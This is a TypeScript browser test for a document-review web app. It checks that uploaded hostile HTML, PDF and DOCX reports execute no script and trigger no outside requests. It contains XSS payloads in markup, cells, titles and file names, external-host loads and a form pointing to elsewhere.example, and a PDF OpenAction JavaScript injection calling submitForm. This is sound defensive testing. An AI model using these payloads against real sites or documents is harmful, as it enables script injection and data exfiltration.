// Script wherever a document can hold it: in the agency's name, the file's name, a cell, an HTML page and a PDF. Every page
// that shows it is opened in a browser; nothing may run, and nothing may be fetched from elsewhere.
import type { Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { closeBrowser, print, randomRecord } from '../../../scripts/sample/index.js'
import type { ReportFile } from '../../../scripts/screenshots/reports.js'
import { type RunningReview, startReview } from '../../../scripts/screenshots/running-review.js'
import type { FindingPage } from '../../../src/review/api.js'
import { NO_BROWSER, PATIENCE_MS, settled, TestBrowser } from './browser.js'

const ELSEWHERE = 'https://elsewhere.example'
const SCRIPT = `<script>window.ran=1</script><img src=x onerror="window.ran=2"><svg onload="window.ran=3">`
const SEED = 77_301

const escaped = (text: string) => text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('"', '&quot;')

/** An HTML report whose own markup runs script, and whose title, cells and sentences hold markup as text. */
async function hostileHtml(): Promise<Uint8Array> {
  const record = randomRecord(SEED, { year: 2023, faults: 3 })
  const html = Buffer.from(await print(record, 'html', 'plain', SEED)).toString()
  const own = `<script src="${ELSEWHERE}/a.js"></script><script>window.ran=4</script><iframe src="javascript:parent.ran=5"></iframe>
    <link rel="stylesheet" href="${ELSEWHERE}/a.css"><a href="javascript:window.ran=6">x</a><img src="${ELSEWHERE}/a.png">
    <meta http-equiv="refresh" content="0;url=${ELSEWHERE}"><form action="${ELSEWHERE}"><button autofocus onfocus="window.ran=7">`
  return Buffer.from(
    html
      .replace(/<body[^>]*>/, (body) => `${body}${own}`)
      .replaceAll(record.agency, `${record.agency}${escaped(SCRIPT)}`)
      .replace(/<td([^>]*)>(\d+)<\/td>/g, (_, more, digits) => `<td${more} onmouseover="window.ran=8">${digits}</td>`)
      .replace('一、总体情况', `一、总体情况${escaped(SCRIPT)}`),
  )
}

/** A PDF that runs script on opening: its catalogue is replaced by an update at its end, as editors write it. */
function withOpenAction(pdf: Uint8Array): Uint8Array {
  const text = Buffer.from(pdf).toString('latin1')
  const root = /\/Root (\d+) 0 R/.exec(text)?.[1] ?? ''
  const before = /startxref\s+(\d+)\s+%%EOF\s*$/.exec(text)?.[1] ?? ''
  const catalogue = new RegExp(`\\n${root} 0 obj\\s*<<([\\s\\S]*?)>>\\s*endobj`).exec(text)?.[1]
  const size = /\/Size (\d+)/.exec(text)?.[1]
  if (!catalogue || !size) throw new Error('the printed PDF is not as this test expects it')
  const script = `/OpenAction << /S /JavaScript /JS (app.alert\\('ran'\\); window.ran = 9; this.submitForm\\('${ELSEWHERE}'\\)) >>`
  const object = `${root} 0 obj\n<<${catalogue} ${script}>>\nendobj\n`
  const table = `xref\n${root} 1\n${String(pdf.length).padStart(10, '0')} 00000 n \n`
  const trailer = `trailer\n<< /Size ${size} /Root ${root} 0 R /Prev ${before} >>\nstartxref\n${pdf.length + object.length}\n%%EOF\n`
  return Buffer.concat([pdf, Buffer.from(object + table + trailer, 'latin1')])
}

async function hostileFiles(): Promise<readonly ReportFile[]> {
  const record = randomRecord(SEED + 1, { year: 2022, faults: 3 })
  const docx = randomRecord(SEED + 2, { year: 2023, faults: 2 })
  const prose = docx.sections.map((one, at) => (at === 0 ? { ...one, before: [...one.before, SCRIPT] } : one))
  return [
    { name: `${SCRIPT.replaceAll('/', '')}.html`, bytes: await hostileHtml() },
    { name: `"><img src=x onerror=window.ran=10>.pdf`, bytes: withOpenAction(await print(record, 'pdf', 'solid', SEED)) },
    { name: `'-window.ran=11-'.docx`, bytes: await print({ ...docx, sections: prose }, 'docx', 'plain', SEED) },
  ]
}

describe.skipIf(NO_BROWSER !== null)(`hostile documents on the page ${NO_BROWSER ?? ''}`, () => {
  let review: RunningReview
  let browser: TestBrowser
  let sha256s: readonly string[]
  beforeAll(async () => {
    review = await startReview()
    browser = await TestBrowser.open()
    sha256s = await review.bring(await hostileFiles())
  }, 8 * PATIENCE_MS)
  afterAll(async () => {
    await browser?.close()
    await review?.stop()
    await closeBrowser()
  })

  const findingsOf = async (format: string) =>
    ((await (await fetch(`${review.url}/api/findings?format=${format}&limit=3`)).json()) as FindingPage).rows

  const nothingRan = async (page: Page) => {
    for (const frame of page.frames()) expect(await frame.evaluate('window.ran'), frame.url()).toBeUndefined()
  }

  it(
    'run nothing and fetch nothing, wherever they are shown',
    async () => {
      const { page } = await browser.visitor()
      const strange: string[] = []
      page.on('request', (request) => {
        if (!request.url().startsWith(review.url) && !/^(data|blob):/.test(request.url())) strange.push(request.url())
      })
      const dialogs: string[] = []
      page.on('dialog', (dialog) => {
        dialogs.push(dialog.message())
        void dialog.dismiss()
      })
      const findings = (await Promise.all(['html', 'pdf', 'docx'].map(findingsOf))).map((rows) => {
        expect(rows.length).toBeGreaterThan(0)
        return `/findings/${rows[0]?.identity}`
      })
      const documents = sha256s.flatMap((sha256) =>
        ['', '?tab=tables', '?tab=sections', '?tab=repairs'].map((tab) => `/documents/${sha256}${tab}`),
      )
      for (const path of ['/findings', ...findings, '/reports', ...documents, '/overview', '/intake']) {
        await page.goto(review.url + path)
        await settled(page)
        await page.mouse.move(500, 400)
        await nothingRan(page)
      }
      expect(strange).toEqual([])
      expect(dialogs).toEqual([])
    },
    8 * PATIENCE_MS,
  )

  it(
    'show their markup as the text that it is',
    async () => {
      const { page } = await browser.visitor()
      await page.goto(`${review.url}/documents/${sha256s[2]}?tab=sections`)
      await settled(page)
      expect(await page.getByText('<script>window.ran=1</script>', { exact: false }).count()).toBeGreaterThan(0)
    },
    4 * PATIENCE_MS,
  )
})
